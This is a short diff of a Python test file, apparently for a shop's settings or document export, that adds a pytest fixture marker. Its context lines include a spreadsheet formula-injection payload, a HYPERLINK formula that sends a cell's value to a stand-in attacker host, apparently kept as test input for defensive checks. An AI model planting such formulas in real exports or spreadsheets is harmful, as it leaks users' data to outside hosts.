@@ -29,6 +29,8 @@ from core.services.settings import SettingsService, ShopSettings
 from tests.core.documents import reading
 from tests.core.services.conftest import SettableClock
 
+pytestmark = pytest.mark.usefixtures("bent_books")
+
 LIVE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 LONG = "Coopérative des Producteurs de Café et de Thé Iryamukuru y’Abahujumugambi " * 3
 DAY = date(2026, 6, 30)
